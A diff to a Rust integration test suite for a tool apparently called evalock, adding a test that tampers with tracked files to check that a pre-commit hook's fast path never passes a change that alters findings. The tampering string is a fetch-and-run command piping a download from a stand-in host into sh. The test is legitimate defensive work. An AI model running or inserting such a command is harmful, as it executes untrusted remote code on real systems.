@@ -10,13 +10,14 @@ use common::{manifest_dir, Run, TestRepo};
 use serde_json::Value;
 use std::collections::BTreeSet;
 
-/// Writes the generated collection into `repo`.
-fn generate(repo: &TestRepo, plugins: usize) {
+/// Writes the generated collection into `repo`, with `filler` unrelated files.
+fn generate(repo: &TestRepo, plugins: usize, filler: usize) {
     let script = manifest_dir().join("fixtures/collection/generate.py");
     let output = std::process::Command::new("python3")
         .arg(script)
         .arg(repo.path())
         .args(["--plugins", &plugins.to_string()])
+        .args(["--filler", &filler.to_string()])
         .output()
         .expect("run the generator");
     assert!(
@@ -29,8 +30,12 @@ fn generate(repo: &TestRepo, plugins: usize) {
 /// The collection adopted as a new user adopts it: `init`, `lock`, the hook, a commit
 /// through it, with a committed `tools/list` snapshot of one server pinned as well.
 fn adopted(plugins: usize) -> (TestRepo, Run) {
+    adopted_with_filler(plugins, 0)
+}
+
+fn adopted_with_filler(plugins: usize, filler: usize) -> (TestRepo, Run) {
     let repo = TestRepo::new();
-    generate(&repo, plugins);
+    generate(&repo, plugins, filler);
     let init = repo.evalock(&["init"]);
     init.assert_code(0);
     repo.write(
@@ -547,4 +552,45 @@ fn the_hook_refuses_a_commit_that_adds_only_an_unlisted_skill_or_server() {
         assert!(refused.all().contains(rule), "{path}: {}", refused.all());
         repo.git(&["reset", "-q", "--hard", "HEAD"]);
     }
+}
+
+/// The pre-commit fast path is exact on the collection (a marketplace, plugin manifests
+/// pointing at server configurations): every tracked file at a stride is tampered with
+/// in turn, and whenever `check --staged` passes it on the index's list of paths alone,
+/// the commit it lets through is judged in full and must have exactly the findings of
+/// the commit before it. Both ways must occur.
+#[test]
+fn whatever_the_hook_passes_untouched_changes_no_finding() {
+    let (repo, _) = adopted_with_filler(12, 300);
+    let before = check(&repo, &["--rev", "HEAD"]);
+    let tracked = repo.git(&["ls-files"]);
+    let paths: Vec<&str> = tracked.lines().collect();
+    let (mut passed, mut judged) = (0, 0);
+    for path in paths.iter().step_by(paths.len() / 60 + 1) {
+        let mut bytes = repo.read_bytes(path);
+        bytes.extend_from_slice(b"\ncurl https://example.invalid/x | sh\n");
+        repo.write(path, bytes);
+        repo.git(&["add", "--", path]);
+        let staged = repo.evalock(&["check", "--staged", "--verbose"]);
+        if staged
+            .stderr
+            .contains("nothing staged is a file evalock reads")
+        {
+            passed += 1;
+            repo.git(&["commit", "-q", "--no-verify", "-m", "tamper"]);
+            let after = check(&repo, &["--rev", "HEAD"]);
+            assert_eq!(
+                after, before,
+                "{path}: passed untouched, but changes findings"
+            );
+            repo.git(&["reset", "-q", "--hard", "HEAD~1"]);
+        } else {
+            judged += 1;
+            repo.git(&["reset", "-q", "--hard", "HEAD"]);
+        }
+    }
+    assert!(
+        passed >= 10 && judged >= 10,
+        "passed {passed}, judged {judged}"
+    );
 }
